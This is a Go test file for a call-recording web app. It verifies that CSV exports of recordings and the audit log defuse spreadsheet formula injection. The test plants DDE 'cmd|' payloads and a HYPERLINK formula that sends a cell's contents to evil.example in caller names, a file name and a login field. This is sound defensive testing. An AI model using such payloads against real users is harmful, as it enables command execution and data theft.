package web

import (
	"bytes"
	"database/sql"
	"encoding/binary"
	"encoding/csv"
	"math"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/totalrec/totalrec/recordings/audio"
)

func TestCell(t *testing.T) {
	kept := []string{"", "101", "+79161234567", "-5", "+5", "-1.5", "12.0", "2026-11-26T18:00:00+03:00",
		"Anna Smith", "a=b", "1+1", "   "}
	for _, in := range kept {
		if got := cell(in); got != in {
			t.Errorf("cell(%q) = %q, want it unchanged", in, got)
		}
	}
	defused := []string{"=1+1", "@SUM(A1)", "+", "-", "+-1", "-2e3", "+7 916 123-45-67",
		`+2+cmd|' /C calc'!A0`, `-1+HYPERLINK("http://evil.example/?x="&B2,"x")`,
		"\t=1", "\r=1", "\n=1", "  =1+1", " +1+1"}
	for _, in := range defused {
		if got := cell(in); got != "'"+in {
			t.Errorf("cell(%q) = %q, want it with a leading apostrophe", in, got)
		}
	}
}

// evaluated reports whether a spreadsheet would take a cell as a formula.
func evaluated(s string) bool {
	if s == "" {
		return false
	}
	if strings.ContainsRune("\t\r\n", rune(s[0])) {
		return true
	}
	t := strings.TrimLeft(s, " ")
	return t != "" && strings.ContainsRune("=+-@", rune(t[0])) && !regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`).MatchString(s)
}

// TestExports_FormulaInjection puts formulas where an outsider can put them —
// the caller's name and number in the CDR, a file name in the spool, a user
// name typed into the sign-in form — and reads both CSV exports over HTTP: no
// cell is a formula, the hostile ones are there as text, and a phone number
// stays as it is.
func TestExports_FormulaInjection(t *testing.T) {
	const (
		calc      = `+2+cmd|' /C calc'!A0`
		hyperlink = `-1+HYPERLINK("http://evil.example/?x="&B2,"x")`
		fileFrom  = `+1+cmd|' -c calc'!A0` // a file name holds no slash
		phone     = "+79161234567"
		fileName  = "in-101-" + fileFrom + "-20261126-120000-1795683600.901.wav"
	)
	f := newFixture(t, 1, 6, func(spoolDir string) {
		db, err := sql.Open("sqlite", filepath.Join(filepath.Dir(spoolDir), "cdr.sqlite"))
		if err != nil {
			t.Fatal(err)
		}
		defer db.Close()
		for _, q := range []struct {
			sql  string
			args []any
		}{
			// Every row of a call, whichever the catalogue picks.
			{`UPDATE cdr SET cnam = ? WHERE linkedid = (SELECT MIN(linkedid) FROM cdr WHERE disposition = 'ANSWERED')`, []any{calc}},
			{`UPDATE cdr SET cnam = ?, cnum = ?, src = ? WHERE linkedid = (SELECT MAX(linkedid) FROM cdr WHERE disposition = 'ANSWERED')`,
				[]any{hyperlink, phone, phone}},
		} {
			if res, err := db.Exec(q.sql, q.args...); err != nil {
				t.Fatal(err)
			} else if n, _ := res.RowsAffected(); n == 0 {
				t.Fatalf("%s: %d rows", q.sql, n)
			}
		}
		// A second of a 440 Hz tone: a recording with audio, which the export lists.
		const samples = 8000
		h := audio.WAVHeader(8000, 1, 16, samples*2)
		wav := h[:]
		for i := range samples {
			wav = binary.LittleEndian.AppendUint16(wav, uint16(int16(8000*math.Sin(2*math.Pi*440*float64(i)/8000))))
		}
		dir := filepath.Join(spoolDir, "2026", "11", "26")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, fileName), wav, 0o644); err != nil {
			t.Fatal(err)
		}
	})
	// A failed sign-in puts its user name into the audit trail.
	tryLogin(t, f.anonymous(), calc, "guess")

	read := func(path string) [][]string {
		t.Helper()
		res, body := f.get(t, path)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d %s", path, res.StatusCode, clip(string(body), 200))
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	for _, tc := range []struct {
		path string
		want []string // cells that must be there, as written
	}{
		{"/api/v1/exports/recordings.csv", []string{"'" + calc, "'" + hyperlink, "'" + fileFrom, phone}},
		{"/audit.csv?" + url.Values{"action": {actLoginFailed}}.Encode(), []string{"'" + calc}},
	} {
		found := map[string]bool{}
		for _, row := range read(tc.path) {
			for _, c := range row {
				if evaluated(c) {
					t.Errorf("%s: a spreadsheet evaluates cell %q", tc.path, c)
				}
				found[c] = true
			}
		}
		for _, w := range tc.want {
			if !found[w] {
				t.Errorf("%s: no cell %q", tc.path, w)
			}
		}
	}
}
